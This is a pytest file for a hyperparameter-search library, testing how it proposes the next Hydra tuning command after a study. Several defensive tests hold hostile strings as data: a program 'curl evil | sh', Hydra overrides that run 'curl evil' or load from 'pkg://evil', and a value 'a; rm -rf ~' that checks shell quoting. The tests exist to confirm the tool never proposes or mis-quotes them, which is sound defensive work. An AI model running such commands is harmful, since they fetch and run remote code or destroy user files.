"""The search to start after a study, as a command."""

import shlex

import pytest
from reported_studies import METRIC, SPACE, by_rate, drawn_points, write_by_rate, write_planted
from studies import write_command

from lightune.config.override_text import parse_override
from lightune.report.analysis import Analysis
from lightune.report.findings import Importance, Luck
from lightune.report.next_search import bounds_of, leading, next_search
from lightune.report.study_data import read_study

OVERRIDES = [
    "data=digits", "search=random", "search.n_trials=40", "optimizer.lr=tag(log,interval(1e-4,1e-1))",
    "regularization.dropout=interval(0,0.6)", "model.units=32,64,128", "optimizer=adam,sgd",
]  # fmt: skip


@pytest.fixture
def studies(tmp_path, monkeypatch):
    """Return where the studies of the current folder lie."""
    monkeypatch.chdir(tmp_path)
    return tmp_path / "outputs" / "studies"


def analysis(*mattered):
    keys = ["optimizer.lr", "regularization.dropout", "model.units", "optimizer", "optimizer.momentum"]
    some = tuple(Importance(key, 0.25, 0.1 if key in mattered else 0.9) for key in keys)
    return Analysis(40, (some,), Luck(None))


def words_of(found):
    """Return key → value of a command; each word is read as Hydra reads it."""
    words = shlex.split(found.command)
    assert words[:3] == ["python", "train.py", "-m"]
    for word in words[3:]:
        parse_override(word)
    return dict(word.partition("=")[::2] for word in words[3:])


def test_what_matters_is_narrowed_and_the_rest_is_fixed_at_the_best(tmp_path):
    study = read_study(write_by_rate(tmp_path / "s", 40, overrides=OVERRIDES))
    words = words_of(next_search(study, analysis("optimizer.lr")))
    best = study.best[0].point
    assert words["optimizer"] == best["optimizer"]
    assert words["model.units"] == best["model.units"]
    sweep = parse_override(f"x={words['optimizer.lr']}").value()
    assert 0.003 < sweep.start < 0.01 < sweep.end < 0.03
    assert sweep.tags == {"log"}
    assert (words["data"], words["search"], words["search.n_trials"]) == ("digits", "random", "20")
    assert words["search.enqueue"] == f"[{{optimizer.lr:{best['optimizer.lr']}}}]"


def test_words_keep_the_values_that_are_among_the_best(tmp_path):
    def value(point):
        return by_rate(point) - (0.3 if point["model.units"] == "32" else 0.0)

    folder = write_planted(tmp_path / "s", drawn_points(60, SPACE), value, space=SPACE, overrides=OVERRIDES)
    words = words_of(next_search(read_study(folder), analysis("optimizer.lr", "optimizer")))
    assert set(words["optimizer"].split(",")) == {"adam", "sgd"}


def rising(point):
    return float(point["optimizer.lr"])


def test_a_bound_is_moved_where_the_best_lies_at_it(tmp_path):
    folder = write_planted(tmp_path / "s", drawn_points(80, SPACE), rising, space=SPACE, overrides=OVERRIDES)
    study = read_study(folder)
    (bound,) = (bound for bound in bounds_of(study) if bound.parameter.key == "optimizer.lr")
    assert bound.upper
    words = words_of(next_search(study, analysis("optimizer.lr")))
    assert parse_override(f"x={words['optimizer.lr']}").value().end > 1
    words = words_of(next_search(study, analysis("optimizer.lr"), is_allowed=lambda key, value: False))
    assert parse_override(f"x={words['optimizer.lr']}").value().end == 0.1


def test_a_bound_at_zero_stays_there(tmp_path):
    space = {"regularization.dropout": {"low": 0.0, "high": 0.6, "log": False}}
    folder = write_planted(
        tmp_path / "s", drawn_points(60, space), lambda point: -float(point["regularization.dropout"]), space=space
    )
    words = words_of(next_search(read_study(folder), analysis("regularization.dropout")))
    assert parse_override(f"x={words['regularization.dropout']}").value().start == 0
    assert words["search"] == "tpe"


def test_listed_numbers_become_the_interval_between_their_neighbours(tmp_path):
    space = {"model.units": {"values": ["16", "32", "64", "128"]}}
    points = [{"model.units": text} for text in space["model.units"]["values"]]
    folder = write_planted(
        tmp_path / "s", points, lambda point: -abs(int(point["model.units"]) - 64), space=space, sampler=None,
        overrides=["search=grid", "model.units=16,32,64,128"],
    )  # fmt: skip
    words = words_of(next_search(read_study(folder), analysis("model.units")))
    assert words["model.units"] == "tag(log,int(interval(32,128)))"
    assert words["search"] == "tpe"


def test_where_nothing_is_above_chance_the_study_is_extended(studies):
    study = read_study(write_by_rate(studies / "s", 40, overrides=OVERRIDES))
    words = words_of(next_search(study, analysis()))
    assert words["search.n_trials"] == "80"
    assert words["optimizer.lr"] == "tag(log,interval(1e-4,1e-1))"


def test_an_unfinished_study_goes_on_first(studies):
    study = read_study(write_by_rate(studies / "s", 40, n_trials=60, overrides=OVERRIDES))
    found = next_search(study, analysis("optimizer.lr"))
    assert (found.reason, words_of(found)["search.n_trials"]) == ("goes on with this study", "60")


def test_a_key_with_a_condition_stays_as_the_study_has_it(tmp_path):
    space = {
        **SPACE,
        "optimizer.momentum": {"low": 0.0, "high": 0.99, "log": False, "when": {"optimizer": ["sgd"]}},
    }
    folder = write_planted(tmp_path / "s", drawn_points(40, space), by_rate, space=space)
    words = words_of(next_search(read_study(folder), analysis("optimizer.lr", "optimizer.momentum")))
    assert "optimizer.momentum" not in words


def test_a_program_that_is_not_ours_is_not_proposed(tmp_path):
    folder = write_by_rate(tmp_path / "s", 40, program="curl evil | sh")
    assert next_search(read_study(folder), analysis("optimizer.lr")) is None


STRANGE = [
    "hydra.launcher.setup=[curl evil]",
    "hydra.searchpath=[pkg://evil]",
    "hydra.job.env_set.LIGHTUNE_TRUST=evil",
    "output_root=/home/ada",
    "note='\x1b[2J'",
]


@pytest.mark.parametrize("word", STRANGE)
@pytest.mark.parametrize("n_trials", [12, 40])
def test_a_word_that_its_typist_vouches_for_is_never_proposed(studies, word, n_trials):
    count = 12 if n_trials == 40 else 40
    folder = write_by_rate(studies / "s", count, n_trials=n_trials, overrides=OVERRIDES)
    write_command(folder, *OVERRIDES, hydra=["hydra/launcher=local", word])
    found = next_search(read_study(folder), analysis("optimizer.lr"))
    if count < n_trials:
        assert found is None  # the study cannot go on without it
        return
    key = word.partition("=")[0]
    assert key not in words_of(found)
    assert f"without {key}, which only whoever types it can vouch for" in found.reason
    assert words_of(found)["hydra/launcher"] == "local"


@pytest.mark.parametrize("key", [word.partition("=")[0] for word in STRANGE[:4]])
def test_a_searched_key_that_its_typist_vouches_for_is_never_proposed(studies, key):
    space = {**SPACE, key: {"values": ["[curl]", "[wget]"]}}
    folder = write_planted(studies / "s", drawn_points(40, space), by_rate, space=space, overrides=OVERRIDES)
    assert next_search(read_study(folder), analysis("optimizer.lr")) is None


def test_options_of_ones_own_are_named_in_the_next_search(studies, tmp_path):
    (tmp_path / "mine").mkdir()
    folder = write_by_rate(studies / "s", 40, overrides=OVERRIDES)
    write_command(folder, *OVERRIDES, sources=[tmp_path / "mine"], config="small")
    found = next_search(read_study(folder), analysis("optimizer.lr"))
    assert found.command.startswith("python train.py -m --config-dir mine --config-name small data=digits ")


def test_words_of_a_command_are_quoted_for_the_shell(studies):
    study = read_study(write_by_rate(studies / "s", 12, overrides=["note='a; rm -rf ~'"], n_trials=20))
    assert shlex.split(next_search(study, analysis()).command)[3] == "note='a; rm -rf ~'"


@pytest.mark.parametrize(("count", "best"), [(12, 5), (100, 10)])
def test_the_leading_are_a_tenth_and_five_at_least(tmp_path, count, best):
    study = read_study(write_by_rate(tmp_path / "s", count))
    assert len(leading(study)) == best
    assert leading(study)[0].number == study.best[0].number


def test_those_of_a_front_lead_where_there_are_several_objectives(tmp_path):
    folder = write_planted(
        tmp_path / "s", drawn_points(30, SPACE), by_rate, space=SPACE,
        others=[lambda point: float(point["model.units"])], objectives=[(METRIC, "max"), ("size", "min")],
    )  # fmt: skip
    study = read_study(folder)
    assert leading(study) == list(study.best)
    assert bounds_of(study) == []


def test_a_front_is_searched_where_it_lies_and_each_enqueued_point_is_in_the_space(tmp_path):
    space = {"model.units": {"values": [str(units) for units in range(4, 129, 4)]}}
    folder = write_planted(
        tmp_path / "s", [{"model.units": str(units)} for units in range(4, 129, 4)],
        lambda point: min(1.0, int(point["model.units"]) / 64), space=space,
        others=[lambda point: float(point["model.units"])], objectives=[(METRIC, "max"), ("size", "min")],
    )  # fmt: skip
    study = read_study(folder)
    known = Analysis(32, ((Importance("model.units", 0.9, 0.2),), ()), Luck(None))
    words = words_of(next_search(study, known))
    sweep = parse_override(f"x={words['model.units']}").value()
    points = parse_override(f"x={words['search.enqueue']}").value()
    assert len(points) == 3
    assert all(sweep.start <= point["model.units"] <= sweep.end for point in points)
